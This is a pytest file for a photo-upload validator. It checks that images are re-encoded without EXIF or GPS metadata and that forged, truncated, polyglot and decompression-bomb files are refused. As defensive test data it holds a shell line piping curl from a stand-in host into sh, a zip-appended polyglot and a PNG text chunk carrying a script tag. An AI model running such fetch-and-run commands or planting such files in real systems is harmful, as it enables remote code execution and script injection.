"""The photo check: real JPEG / PNG / WebP / HEIC pass and come back re-encoded without
metadata; a forged, truncated, polyglot, oversized or bomb file is refused."""

from __future__ import annotations

import io
import zlib

import pytest
from PIL import Image, ImageDraw

from aftersales.evidence.photos import Limits, PhotoRefused, Refusal, check_photo

LIMITS = Limits(max_bytes=2 * 1024 * 1024, max_pixels=4_000_000)
GPS_IFD = 0x8825


def picture(fmt: str, size: tuple[int, int] = (320, 240), **save: object) -> bytes:
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((20, 20, size[0] - 20, size[1] - 20), fill=(200, 30, 30))
    draw.ellipse((60, 60, 160, 160), fill=(20, 90, 200))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **save)
    return buffer.getvalue()


def refused(data: bytes, limits: Limits = LIMITS) -> Refusal:
    with pytest.raises(PhotoRefused) as caught:
        check_photo(data, limits)
    return caught.value.reason


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp"),
     ("HEIF", "image/jpeg")],
)  # fmt: skip
def test_real_photos_pass_and_are_reencoded(fmt: str, content_type: str) -> None:
    clean = check_photo(picture(fmt), LIMITS)
    assert clean.content_type == content_type
    assert (clean.width, clean.height) == (320, 240)
    with Image.open(io.BytesIO(clean.data)) as back:
        assert back.format == content_type.split("/")[1].upper().replace("JPG", "JPEG")
        assert back.getpixel((100, 100))[2] > 150  # the blue circle is still there


def test_gps_and_other_metadata_are_gone() -> None:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = "Camera 1.0"  # Software
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 1.0)})
    original = picture("JPEG", exif=exif.tobytes(), comment=b"taken at home")
    with Image.open(io.BytesIO(original)) as before:  # the test photo does carry them
        assert before.getexif().get_ifd(GPS_IFD)[1] == "N"
        assert before.info.get("comment") == b"taken at home"
    clean = check_photo(original, LIMITS)
    with Image.open(io.BytesIO(clean.data)) as after:
        assert len(after.getexif()) == 0
        assert "exif" not in after.info and "comment" not in after.info
    assert b"Exif" not in clean.data and b"PhoneMaker" not in clean.data


def test_the_orientation_is_applied_before_the_exif_goes() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotated 90 degrees: shown upright, 240 x 320
    clean = check_photo(picture("JPEG", exif=exif.tobytes()), LIMITS)
    assert (clean.width, clean.height) == (240, 320)


def test_a_script_named_jpg_is_not_a_photo() -> None:
    assert refused(b"#!/bin/sh\ncurl http://example.invalid | sh\n") == Refusal.NOT_AN_IMAGE
    assert refused(b"<svg xmlns='http://www.w3.org/2000/svg'/>") == Refusal.NOT_AN_IMAGE
    # the magic bytes alone do not make a photo
    assert refused(b"\xff\xd8\xff\xe0" + b"\x00" * 200 + b"\xff\xd9") == Refusal.DAMAGED


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_a_truncated_photo_is_refused(fmt: str) -> None:
    data = picture(fmt)
    assert refused(data[: len(data) * 2 // 3]) == Refusal.DAMAGED


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_a_polyglot_is_refused(fmt: str) -> None:
    # an image that is also a zip archive (a jar, a docx …) read from its end
    archive = b"PK\x03\x04" + b"\x14\x00" * 10 + b"payload.sh" + b"PK\x05\x06" + b"\x00" * 18
    assert refused(picture(fmt) + archive) == Refusal.POLYGLOT


def test_markup_hidden_inside_a_photo_is_refused() -> None:
    # a PNG text chunk carrying a page: valid PNG framing, still not only a picture
    text = b"Comment\x00<html><script>alert(1)</script></html>"
    chunk = len(text).to_bytes(4, "big") + b"tEXt" + text
    chunk += zlib.crc32(b"tEXt" + text).to_bytes(4, "big")
    data = picture("PNG")
    assert refused(data[:33] + chunk + data[33:]) == Refusal.POLYGLOT


def test_too_many_bytes_is_refused_before_anything_is_decoded() -> None:
    small = Limits(max_bytes=1000, max_pixels=LIMITS.max_pixels)
    assert refused(picture("PNG", size=(600, 600)) + b"", small) == Refusal.TOO_LARGE


def test_a_decompression_bomb_is_refused_from_its_header() -> None:
    # 5000 x 5000 of one colour: a few KB as PNG, 75 MB once decoded
    bomb = Image.new("RGB", (5000, 5000), "white")
    buffer = io.BytesIO()
    bomb.save(buffer, format="PNG", optimize=True)
    assert len(buffer.getvalue()) < LIMITS.max_bytes
    assert refused(buffer.getvalue()) == Refusal.TOO_MANY_PIXELS
